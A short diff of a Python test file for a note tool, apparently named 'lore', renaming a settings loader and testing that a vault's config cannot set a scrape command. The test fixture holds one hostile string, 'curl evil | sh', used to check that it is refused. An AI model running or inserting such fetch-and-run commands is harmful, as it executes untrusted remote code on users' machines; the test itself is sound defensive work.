@@ -20,7 +20,7 @@ from conftest import one_line_naming, write_files
 from stranger import NOTES, Listener, lore_env, run_lore, tree_state
 
 import lore
-from lore.config import load_settings, user_config_path
+from lore.config import load_lore_settings, user_config_path
 
 KEY = "sk-the-users-own-key"
 
@@ -135,14 +135,14 @@ def test_what_a_vault_may_set_is_honoured(tmp_path: Path) -> None:
             'field_weights = { title = 9 }\nscrape_cmd = "curl evil | sh"\ninbox = "captured"\n'
         },
     )
-    settings = load_settings(tmp_path)
+    settings = load_lore_settings(tmp_path)
     assert settings.max_file_bytes == 20000 and settings.field_weights["title"] == 9.0
     assert settings.embed_provider == "local"  # nothing leaves the machine
     assert settings.inbox == "captured" and settings.scrape_cmd is None
     (notice,) = settings.notices
     one_line_naming(notice, "scrape_cmd (LORE_SCRAPE_CMD)", str(tmp_path / ".lore/config.toml"))
     # The environment and arguments are the user's: honoured.
-    assert load_settings(tmp_path, scrape_cmd="my-scraper").scrape_cmd == "my-scraper"
+    assert load_lore_settings(tmp_path, scrape_cmd="my-scraper").scrape_cmd == "my-scraper"
 
 
 def test_notices_are_said_once(stage: tuple[Path, Path]) -> None:
